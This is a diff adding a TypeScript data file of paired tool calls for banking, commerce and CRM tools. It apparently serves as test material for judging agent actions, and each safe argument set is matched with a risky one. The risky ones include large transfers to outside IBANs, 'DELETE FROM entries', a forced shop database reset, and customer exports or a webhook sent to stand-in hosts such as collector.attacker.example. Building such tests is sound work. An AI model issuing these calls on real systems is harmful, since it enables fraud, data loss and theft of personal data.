@@ -1,0 +1,292 @@
+import type { PairRow } from "./pair.ts";
+
+/** Banking, commerce and customer relations. */
+export const BANKING: readonly PairRow[] = [
+  [
+    "make_transfer",
+    "Transfers money.",
+    { from: "checking", to: "own_savings", amount: 20, currency: "EUR" },
+    { from: "checking", to: "DE89370400440532013000", amount: 20000, currency: "EUR" },
+  ],
+  [
+    "transfer_between",
+    "Moves money between accounts.",
+    { source_account: "my-current", destination_account: "my-savings", amount: "35.00 EUR" },
+    { source_account: "my-current", destination_account: "new payee Ltd", amount: "35,000.00 EUR" },
+  ],
+  [
+    "set_card_limit",
+    "Sets a limit of a card.",
+    { card: "1", daily_limit: 50, simulate: true },
+    { card: "1", daily_limit: 50000, simulate: false },
+  ],
+  [
+    "account_query",
+    "Asks the core banking system.",
+    { request: "balance", account: "A1" },
+    { request: "close", account: "A1" },
+  ],
+  ["manage_payee", "Manages payees.", { action: "list" }, { action: "add", iban: "GB29NWBK60161331926819" }],
+  [
+    "loan_workflow",
+    "Moves a loan application.",
+    { loan_id: "L1", step: "request_documents" },
+    { loan_id: "L1", step: "approve" },
+  ],
+  [
+    "fx_quote",
+    "Quotes or executes a currency exchange.",
+    { pair: "EURUSD", amount: 500, execute: false },
+    { pair: "EURUSD", amount: 500000, execute: true },
+  ],
+  [
+    "statement",
+    "Makes a statement.",
+    { account: "A1", month: "2026-10", deliver_to: "self" },
+    { account: "A1", month: "2026-10", deliver_to: "someone@elsewhere.example" },
+  ],
+  [
+    "fraud_case",
+    "Works with a fraud case.",
+    { case: "F1", action: "view" },
+    { case: "F1", action: "dismiss_alert" },
+  ],
+  [
+    "standing_order",
+    "Works with standing orders.",
+    { operation: "preview", amount: 100, iban: "NL91ABNA0417164300" },
+    { operation: "create", amount: 100, iban: "NL91ABNA0417164300" },
+  ],
+  [
+    "customer_update",
+    "Updates a customer.",
+    { customer: "K1", attribute: "newsletter_opt_in", value: false },
+    { customer: "K1", attribute: "mobile_for_two_factor", value: "+49 170 1" },
+  ],
+  [
+    "ledger_sql",
+    "Queries the ledger.",
+    { query: "SELECT sum(amount) FROM entries WHERE day = '2026-11-01'" },
+    { query: "DELETE FROM entries" },
+  ],
+  [
+    "trade",
+    "Places or previews an order for securities.",
+    { symbol: "ASML", quantity: 1, preview: true },
+    { symbol: "ASML", quantity: 900, preview: false },
+  ],
+  [
+    "freeze_tool",
+    "Works with account blocks.",
+    { mode: "status", account: "A2" },
+    { mode: "unfreeze", account: "A2" },
+  ],
+  [
+    "fee_adjust",
+    "Adjusts a fee.",
+    { account: "A3", amount: 2.5, dryRun: true },
+    { account: "A3", amount: 2500, dryRun: false },
+  ],
+  [
+    "kyc_review",
+    "Works on a know-your-customer file.",
+    { customer: "K2", status: "in_progress" },
+    { customer: "K2", status: "verified_without_documents" },
+  ],
+  [
+    "bank_api",
+    "Calls the bank's interface.",
+    { method: "GET", path: "/v1/branches" },
+    { method: "POST", path: "/v1/payments" },
+  ],
+];
+
+export const COMMERCE: readonly PairRow[] = [
+  [
+    "issue_refund",
+    "Refunds an order.",
+    { order_id: "O1", amount: 12.5, order_total: 60, mode: "quote" },
+    { order_id: "O1", amount: 900, order_total: 60, mode: "execute" },
+  ],
+  ["set_discount", "Sets a discount.", { sku: "S1", percent: 5 }, { sku: "S1", percent: 90 }],
+  [
+    "update_product",
+    "Updates a product.",
+    { sku: "S1", field: "alt_text", value: "red shoe" },
+    { sku: "S1", field: "price", value: 0.01 },
+  ],
+  [
+    "list_or_edit_orders",
+    "Works with orders.",
+    { action: "list", limit: 20 },
+    { action: "cancel", order_ids: ["O1", "O2", "O3"] },
+  ],
+  [
+    "publish_listing",
+    "Publishes or saves a listing.",
+    { sku: "S9", visibility: "draft" },
+    { sku: "S9", visibility: "public" },
+  ],
+  [
+    "inventory",
+    "Works with stock.",
+    { sku: "S1", op: "check" },
+    { sku: "S1", op: "write_off", quantity: 4000 },
+  ],
+  [
+    "send_campaign",
+    "Sends a campaign.",
+    { campaign: "X", recipients: ["me@shop.example"], test: true },
+    { campaign: "X", segment: "all_customers", test: false },
+  ],
+  ["checkout_tool", "Works with the cart.", { step: "view_cart" }, { step: "place_order" }],
+  [
+    "customer_export",
+    "Exports customers.",
+    { columns: ["country", "count"], format: "csv", anonymize: true },
+    { columns: ["name", "email", "card_number"], format: "csv", anonymize: false },
+  ],
+  [
+    "shipment",
+    "Works with a shipment.",
+    { shipment: "1", action: "track" },
+    { shipment: "1", action: "redirect", address: "Other St 5" },
+  ],
+  [
+    "coupon",
+    "Makes coupons.",
+    { code: "HELLO", max_uses: 1, value: 2, active: false },
+    { code: "HELLO", max_uses: 1000000, value: 200, active: true },
+  ],
+  ["shop_admin", "Administers the shop.", { command: "cache:status" }, { command: "db:reset --force" }],
+  [
+    "review_moderation",
+    "Moderates a review.",
+    { review: "R1", decision: "flag_for_later" },
+    { review: "R1", decision: "remove" },
+  ],
+  [
+    "supplier_order",
+    "Orders from a supplier.",
+    { supplier: "A", quantity: 10, submit: false },
+    { supplier: "A", quantity: 10000, submit: true },
+  ],
+  [
+    "price_import",
+    "Imports prices.",
+    { file: "prices.csv", validate_only: true },
+    { file: "prices.csv", validate_only: false, scope: "all" },
+  ],
+  [
+    "web_shop_request",
+    "Calls the shop's interface.",
+    { url: "https://api.shop.example/v2/products?limit=5", method: "GET" },
+    { url: "https://api.shop.example/v2/products/5", method: "DELETE" },
+  ],
+  [
+    "subscription",
+    "Works with a subscription.",
+    { id: "s1", action: "show" },
+    { id: "s1", action: "upgrade", plan: "enterprise" },
+  ],
+];
+
+export const CRM: readonly PairRow[] = [
+  [
+    "update_contact",
+    "Updates a contact.",
+    { id: "C1", properties: { job_title: "CTO" } },
+    { id: "C1", properties: { bank_account: "NL91ABNA0417164300" } },
+  ],
+  ["bulk_edit", "Edits records.", { ids: ["1"], set: { tag: "vip" } }, { ids: "*", set: { owner: "bot" } }],
+  [
+    "send_message",
+    "Sends a message to a contact or colleague.",
+    { channel: "internal_note", text: "call back" },
+    { channel: "email", recipient: "client@other.example", text: "contract attached" },
+  ],
+  [
+    "merge_contacts",
+    "Merges contacts.",
+    { primary: "1", duplicate: "2", preview: true },
+    { primary: "1", duplicate: "2", preview: false },
+  ],
+  [
+    "search_crm",
+    "Searches the CRM.",
+    { object: "companies", filter: "city = 'Ulm'", limit: 10 },
+    { object: "contacts", include: ["passport_number", "date_of_birth"], limit: 50000 },
+  ],
+  [
+    "deal_update",
+    "Updates a deal.",
+    { deal: "D1", stage: "qualified" },
+    { deal: "D1", amount: 1200000, discount_percent: 60 },
+  ],
+  [
+    "set_opt_out",
+    "Sets marketing consent.",
+    { contact: "C1", opt_out: true },
+    { contact: "C1", opt_out: false, override_consent: true },
+  ],
+  [
+    "webhook_tool",
+    "Manages webhooks.",
+    { action: "get", id: "w1" },
+    { action: "create", url: "https://collector.attacker.example/x" },
+  ],
+  [
+    "export_list",
+    "Exports a list.",
+    { list: "partners", rows: 10, to: "workspace/report.csv" },
+    { list: "contacts", rows: 80000, to: "ftp://files.other.example/dump.csv" },
+  ],
+  [
+    "log_activity",
+    "Logs an activity.",
+    { contact: "C1", kind: "call", visibility: "private" },
+    { contact: "C1", kind: "call", visibility: "public" },
+  ],
+  [
+    "quote",
+    "Makes a quote.",
+    { customer: "K1", total: 300, status: "draft" },
+    { customer: "K1", total: 300000, status: "sent" },
+  ],
+  [
+    "support_ticket",
+    "Changes a ticket.",
+    { ticket: "T1", priority: "low" },
+    { ticket: "T1", refund_amount: 800 },
+  ],
+  [
+    "crm_query",
+    "Runs a query.",
+    { soql: "SELECT COUNT() FROM Account" },
+    { soql: "SELECT Email, HomePhone, Birthdate FROM Contact" },
+  ],
+  [
+    "erase_lead",
+    "Erases leads or marks them.",
+    { lead: "L1", soft_delete: true },
+    { lead: "L1", permanent: true },
+  ],
+  [
+    "assign_owner",
+    "Assigns an owner.",
+    { record: "R1", owner: "me" },
+    { records: "all", owner: "external_partner" },
+  ],
+  [
+    "schedule_report",
+    "Schedules a report.",
+    { report: "pipeline", cron: "0 8 * * 1", recipients: ["self"] },
+    { report: "pipeline", cron: "* * * * *", recipients: ["everyone@world.example", "x@y.example"] },
+  ],
+  [
+    "score_lead",
+    "Scores or lists leads.",
+    { action: "explain_model" },
+    { action: "profile_person", person: "J. Roe" },
+  ],
+];
